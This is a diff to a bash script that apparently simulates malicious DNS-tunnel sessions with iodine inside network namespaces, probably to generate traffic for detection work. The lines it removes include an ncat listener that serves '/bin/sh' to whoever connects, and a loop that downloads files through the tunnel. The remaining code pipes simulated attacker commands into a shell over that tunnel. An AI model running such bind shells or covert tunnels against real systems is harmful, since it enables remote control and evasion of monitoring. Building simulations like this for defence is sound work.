@@ -18,20 +18,6 @@ here=$(dirname "$0")
 . "$here/../lib/netns.sh"
 . "$here/malicious.bash"
 
-target_shell() { ncat -n -l -k "$1" "$2" -e "$(pick /bin/sh /bin/bash)"; }
-target_web()   { cd "$MAL_VICTIM/data" && exec /usr/bin/python3 -m http.server --bind "$1" "$2"; }
-use_shell()    { ncat -n "$1" "$2"; }
-export -f target_shell target_web use_shell
-
-downloads() {
-    local ip=$1 port=$2 n i
-    n=$(rand 1 4)
-    nap_ms 300 1500
-    for i in $(seq "$n"); do
-        in_cli curl -s -o /dev/null --max-time 40 "http://$ip:$port/$(pick blob notes)$(rand 1 4).$(pick bin txt)"
-        operator_pause
-    done
-}
 
 # waits until a tunnel device (srv or cli namespace) has its address
 wait_tunnel() {
@@ -76,16 +62,16 @@ session() {
     pids+=($!)
     wait_tunnel srv "$dev" || { stop_all "${pids[@]}"; return 1; }
     use=$(pick shell shell web)
-    if [ "$use" = shell ]; then ns_start srv target_shell "$tun_srv" "$port"; else ns_start srv target_web "$tun_srv" "$port"; fi
+    if [ "$use" = shell ]; then ns_start srv tunnel_target_shell "$tun_srv" "$port"; else ns_start srv tunnel_target_web "$tun_srv" "$port"; fi
     pids+=($!)
     wait_port srv "$tun_srv" "$port" || { stop_all "${pids[@]}"; return 1; }
     ns_start cli iodine -f -d "$dev" -P "$pw" "${opts[@]}" "$SRV_IP" "$dom"
     pids+=($!)
     wait_tunnel cli "$dev" && wait_through "$tun_srv" "$port" || { stop_all "${pids[@]}"; return 1; }
     if [ "$use" = shell ]; then
-        mal_commands "$(rand 3 8)" | operator_lines | ns_run cli use_shell "$tun_srv" "$port" > /dev/null 2>&1
+        mal_commands "$(rand 3 8)" | operator_lines | ns_run cli tunnel_use_shell "$tun_srv" "$port" > /dev/null 2>&1
     else
-        downloads "$tun_srv" "$port"
+        tunnel_downloads "$tun_srv:$port" 40 4
     fi
     nap_ms 500 3000
     stop_all "${pids[@]}"
